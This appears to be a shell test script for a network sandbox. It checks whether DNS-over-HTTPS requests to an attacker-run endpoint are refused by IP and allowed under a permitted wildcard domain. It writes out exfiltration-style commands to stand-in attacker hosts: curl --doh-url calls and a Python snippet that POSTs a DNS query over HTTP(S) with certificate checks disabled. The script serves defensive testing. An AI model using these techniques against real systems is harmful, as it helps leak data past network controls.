#!/bin/bash
# 13-doh: DNS over HTTPS to an attacker-run endpoint. Addressed by IP, it
# is a TCP flow to an address the sandbox never resolved: refused at the
# SYN (no_dns_binding), the attacker gets no payload byte, whatever the
# client (curl --doh-url, a hand-made POST of a DNS message over HTTPS or
# HTTP). Under an allowed name (sandbox b allows *.evil.test) it is an
# HTTPS or HTTP flow like any other and goes through: that is the README's
# "allowed services that relay data" limit, asserted here as it is — a
# policy that names a DoH server, or a zone anyone can host one in, lets
# DNS (and anything else) out through it.
. "$(dirname "$0")/../lib/testbed.sh"
tb_init adv-doh
tb_internet_up || { tb_fail "test bed up"; tb_done; }
tb_sluiced_start || { tb_fail "sluiced up"; tb_done; }

cat > "$TB_DIR/a.json" <<EOF
{"network": {"allowedDomains": ["a.test"]}}
EOF
cat > "$TB_DIR/b.json" <<EOF
{"network": {"allowedDomains": ["a.test", "*.evil.test"]}}
EOF
tb_check "sandbox a" tb_sandbox_add a "$TB_DIR/a.json"
tb_check "sandbox b" tb_sandbox_add b "$TB_DIR/b.json"
: > "$TB_DIR/dns.log"

# doh SANDBOX ADDR PORT tls|plain HOST: POSTs a DNS query for
# secret-doh.example as application/dns-message; prints what happened.
doh() {
	tb_in "$1" "$TB_PY" - "$2" "$3" "$4" "$5" <<'EOF'
import socket, ssl, struct, sys
addr, port, how, host = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
q = struct.pack(">HHHHHH", 0, 0x0100, 1, 0, 0, 0)
q += b"\x0asecret-doh\x07example\x00\x00\x01\x00\x01"
req = ("POST /dns-query HTTP/1.1\r\nHost: %s\r\nContent-Type: application/dns-message\r\n"
       "Accept: application/dns-message\r\nContent-Length: %d\r\n\r\n" % (host, len(q))).encode() + q
try:
    s = socket.create_connection((addr, port), timeout=3)
    if how == "tls":
        ctx = ssl.create_default_context()
        ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
        s = ctx.wrap_socket(s, server_hostname=host)
    s.sendall(req)
    print("answered" if s.recv(4096) else "closed")
except ConnectionRefusedError:
    print("refused")
except ConnectionResetError:
    print("reset")
except ssl.SSLError:
    print("tls-failed")
except OSError as e:
    print("error %s" % e)
EOF
}

# sandbox a: the attacker's endpoint by address
t0=$(tb_time_ms)
tb_in a curl -s --max-time 5 --doh-url "https://$TB_ADDR_ATK/dns-query" \
    --cacert "$TB_CA" https://a.test/ >/dev/null 2>&1
rc=$?
tb_check "curl --doh-url https://$TB_ADDR_ATK/dns-query fails (exit $rc)" [ $rc != 0 ]
tb_assert_le $(( $(tb_time_ms) - t0 )) 1500 "at once"
tb_assert_eq "$(doh a "$TB_ADDR_ATK" 443 tls "$TB_ADDR_ATK")" refused "a DNS message POSTed over HTTPS: refused"
tb_assert_eq "$(doh a "$TB_ADDR_ATK" 80 plain "$TB_ADDR_ATK")" refused "and over HTTP: refused"
sleep 0.5
tb_assert_eq "$(tb_attacker_packet_count)" 0 "the attacker received no packet from a, not even a SYN"
tb_assert_eq "$(tb_upstream_queries)" 0 "the upstream resolver heard nothing"

# sandbox b: an attacker's DoH server under an allowed name goes through
tb_in b curl -s --max-time 5 --doh-url https://x.evil.test/dns-query \
    --cacert "$TB_CA" https://a.test/ >/dev/null 2>&1
tb_check "curl --doh-url https://x.evil.test/ fails only because the far side speaks no TLS" [ $? != 0 ]
tb_assert_eq "$(doh b x.evil.test 80 plain x.evil.test)" answered \
    "a DNS message POSTed over HTTP to x.evil.test: answered (the limit)"
tb_wait_count 3 5 tb_attacker_conn_count >/dev/null
tb_check "the attacker received the ClientHello for x.evil.test" \
    [ "$(tb_attacker_received | grep -ac 'x\.evil\.test')" -ge 2 ]
tb_check "and the DNS query in the POST body" \
    [ "$(tb_attacker_received | grep -ac secret-doh)" = 1 ]
tb_assert_eq "$(tb_upstream_queries)" "$(tb_upstream_queries '^x\.evil\.test$')" \
    "the upstream saw only b's lookups of x.evil.test"

tb_wait_rows "SELECT count(*) FROM flows" 7 >/dev/null
tb_assert_eq "$(tb_sql "SELECT substr(sandbox, -1), dst_ip, dst_port, verdict, reason,
    ifnull(name, '-'), ifnull(sni, '-'), ifnull(http_host, '-') FROM flows ORDER BY id")" \
"a|$TB_ADDR_ATK|443|deny|no_dns_binding|-|-|-
a|$TB_ADDR_ATK|443|deny|no_dns_binding|-|-|-
a|$TB_ADDR_ATK|443|deny|no_dns_binding|-|-|-
a|$TB_ADDR_ATK|80|deny|no_dns_binding|-|-|-
b|$TB_ADDR_ATK|443|allow|allowed_domain|x.evil.test|x.evil.test|-
b|$TB_ADDR_ATK|443|allow|allowed_domain|x.evil.test|x.evil.test|-
b|$TB_ADDR_ATK|80|allow|allowed_domain|x.evil.test|-|x.evil.test" \
    "a: refused at the SYN (curl asks for A and AAAA: two flows); b: allowed by name, SNI and Host"
tb_done
